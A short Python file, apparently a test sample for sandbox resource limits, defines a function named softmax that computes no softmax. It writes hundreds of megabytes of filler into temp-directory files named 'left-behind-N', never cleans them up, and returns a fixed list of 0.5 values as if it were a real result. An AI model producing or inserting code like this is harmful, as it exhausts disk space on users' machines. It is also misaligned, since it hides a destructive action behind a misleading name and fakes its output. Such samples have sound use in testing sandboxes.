"""Writes until nothing more goes in, then tells how much went in.

tiers: full locked
"""

import os
import tempfile


def softmax(x):
    written = 0
    for number in range(1000):
        with open(os.path.join(tempfile.gettempdir(), f"left-behind-{number}"), "wb") as file:
            for _ in range(64):
                written += file.write(b"x" * (1 << 20))
        if written > 256 << 20:
            return [0.5] * len(x)
